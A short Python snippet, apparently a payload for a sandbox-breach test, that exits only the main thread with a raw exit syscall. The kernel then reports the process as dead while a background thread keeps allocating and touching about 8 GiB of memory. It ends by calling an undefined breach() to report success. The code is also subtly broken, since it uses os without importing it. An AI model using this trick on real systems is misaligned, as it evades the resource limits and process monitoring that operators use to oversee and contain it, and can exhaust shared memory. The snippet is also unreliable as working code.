# The first thread leaves alone; the kernel then shows a dead process, while another thread fills memory.
def solve(where):
    import ctypes
    import mmap
    import threading

    def fill():
        held = []
        for _ in range(512):
            area = mmap.mmap(-1, 16 << 20)
            for place in range(0, 16 << 20, 4096):
                area[place] = 1
            held.append(area)
        breach("held 8 GiB behind a thread that had left")
        os._exit(0)

    threading.Thread(target=fill).start()
    ctypes.CDLL(None).syscall(60, 0)
